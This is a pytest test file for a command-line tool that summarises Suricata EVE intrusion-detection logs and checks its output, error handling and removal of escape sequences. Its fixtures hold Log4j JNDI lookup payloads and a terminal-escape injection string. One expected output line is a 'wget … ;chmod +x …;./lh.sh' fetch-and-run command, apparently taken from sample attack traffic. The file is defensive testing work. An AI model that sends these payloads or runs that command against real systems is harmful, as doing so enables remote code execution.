"""``python -m suricata_eve`` as a person runs it: what it prints, and how it ends."""

from __future__ import annotations

import gzip
import json
import os
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from suricata_eve import __version__
from suricata_eve.terminal import display_width

if TYPE_CHECKING:
    from pathlib import Path

EVENT = {
    "timestamp": "2026-01-05T10:00:00.000000+0000",
    "flow_id": 1187302211344213,
    "event_type": "alert",
    "src_ip": "192.0.2.1",
    "src_port": 4242,
    "dest_ip": "198.51.100.20",
    "dest_port": 80,
    "proto": "TCP",
    "alert": {"signature": "Log4j", "signature_id": 1, "severity": 1, "category": "x"},
    "http": {"url": "/${jndi:ldap://203.0.113.9:1389/a}", "hostname": "www.example.org"},
}


def run(*args: object, **variables: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "suricata_eve", *map(str, args)]
    return subprocess.run(
        command,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
        env=os.environ | {"COLUMNS": "100"} | variables,
    )


def write(path: Path, *events: dict[str, object]) -> Path:
    path.write_text("".join(json.dumps(event) + "\n" for event in events), encoding="utf-8")
    return path


def test_without_a_file_it_summarizes_the_sample_on_one_page() -> None:
    done = run()
    lines = done.stdout.splitlines()

    assert (done.returncode, done.stderr) == (0, "")
    assert len(lines) <= 62
    assert max(map(display_width, lines)) <= 100
    assert lines[0].startswith("9,722 events of 20 types")
    assert "2022-01-01 00:07:17 to 2022-01-03 23:48:10 UTC" in lines[1]
    assert "863 alerts" in done.stdout
    assert "Flows with Log4j alerts (87 flows" in done.stdout
    assert "wget http://203.0.113.77/lh.sh;chmod +x lh.sh;./lh.sh" in done.stdout


@pytest.mark.parametrize(("columns", "width"), [("20", 80), ("80", 80), ("91", 91), ("300", 100)])
def test_it_fits_the_terminal_between_80_and_100_columns(columns: str, width: int) -> None:
    lines = run(COLUMNS=columns).stdout.splitlines()

    assert width - 5 < max(map(display_width, lines)) <= width


def test_it_reads_several_files_as_one_compressed_or_not(tmp_path: Path) -> None:
    plain = write(tmp_path / "eve.json", EVENT)
    packed = tmp_path / "eve.json.1.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes()))

    done = run(plain, packed)

    assert done.returncode == 0
    assert done.stdout.startswith("2 events of 1 types, 2 lines read")
    assert "203.0.113.9" in done.stdout


def test_a_missing_file_is_one_line_on_stderr_and_status_2(tmp_path: Path) -> None:
    done = run(tmp_path / "no-such-\x1b[31m\nfile.json")

    assert done.returncode == 2
    assert done.stdout == ""
    assert done.stderr.count("\n") == 1
    assert "\x1b" not in done.stderr
    assert "No such file or directory" in done.stderr


def test_a_folder_is_one_line_on_stderr_and_status_2(tmp_path: Path) -> None:
    done = run(tmp_path)

    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)
    assert str(tmp_path) in done.stderr


def test_a_file_without_one_event_is_one_line_on_stderr_and_status_2(tmp_path: Path) -> None:
    path = tmp_path / "picture.png"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))

    done = run(path)

    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)
    assert "is an EVE event" in done.stderr


@pytest.mark.parametrize("text", ["", "\n\n"])
def test_an_empty_file_is_no_error(tmp_path: Path, text: str) -> None:
    path = tmp_path / "eve.json"
    path.write_text(text, encoding="utf-8")

    done = run(path)

    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith("0 events")


def test_bad_lines_are_told_and_the_rest_is_shown(tmp_path: Path) -> None:
    path = write(tmp_path / "eve.json", EVENT)
    with path.open("a", encoding="utf-8") as file:
        file.write('{"timestamp": "2026-01-05T1')

    done = run(path)

    assert done.returncode == 0
    assert "1 events of 1 types, 2 lines read, 1 of them no event" in done.stdout
    assert done.stderr.startswith("suricata_eve: ")
    assert done.stderr.count("\n") == 1


def test_hostile_text_in_the_log_does_not_reach_the_terminal(tmp_path: Path) -> None:
    evil = "\x1b[2J\x1b]0;owned\x07\u202etxt.exe\n\r\x00\x9b1m"
    event = dict(
        EVENT,
        event_type="alert",
        alert=dict(EVENT["alert"], signature=f"Log4j {evil}"),  # type: ignore[call-overload]
        http={"url": f"/${{jndi:ldap://203.0.113.9/Basic/Command/Base64/{evil}}}"},
        src_ip=evil,
    )
    path = write(tmp_path / "eve.json", event, dict(EVENT, event_type=f"x{evil}"))

    done = run(path)

    assert done.returncode == 0
    assert not set(done.stdout) & set("\x1b\x07\u202e\r\x00\x9b")
    assert max(map(display_width, done.stdout.splitlines())) <= 100


def test_events_without_the_columns_of_a_section_leave_it_out(tmp_path: Path) -> None:
    done = run(write(tmp_path / "eve.json", {"event_type": "flow"}, {"other": 1}))

    assert done.returncode == 0
    assert "No alerts" in done.stdout


def test_version() -> None:
    done = run("--version")

    assert (done.returncode, done.stdout) == (0, f"{__version__}\n")


def test_help_names_what_it_takes() -> None:
    done = run("--help")

    assert done.returncode == 0
    assert "FILE" in done.stdout


def test_an_unknown_option_is_status_2() -> None:
    assert run("--nonsense").returncode == 2


def test_a_reader_that_has_seen_enough_ends_it_quietly() -> None:
    with subprocess.Popen(
        [sys.executable, "-m", "suricata_eve"], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.close()
        assert process.stderr.read() == b""
        assert process.wait(timeout=120) == 0


def test_a_terminal_without_unicode_gets_escapes() -> None:
    done = run(PYTHONIOENCODING="ascii")

    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.isascii()
